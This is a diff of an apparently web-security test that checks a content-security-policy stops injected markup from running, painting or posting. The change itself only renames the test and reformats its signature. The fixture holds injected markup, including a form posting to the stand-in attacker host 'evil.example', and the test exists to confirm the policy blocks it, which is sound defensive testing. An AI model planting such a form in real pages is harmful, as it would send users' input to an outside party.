@@ -10,10 +10,7 @@ const INJECTED = `
 	<style>h1 { color: rgb(1, 2, 3) !important }</style>
 	<form id="stolen" action="https://evil.example/"><button>Send</button></form>`;
 
-test("markup injected into a page does not run, paint or post; without the policy it would", async ({
-	page,
-	complaints,
-}) => {
+test("by the policy injected markup does not run, paint or post", async ({ page, complaints }) => {
 	await test.step("without the policy it would", async () => {
 		await injectInto(page, ["content-security-policy"]);
 		await page.goto("/terms");
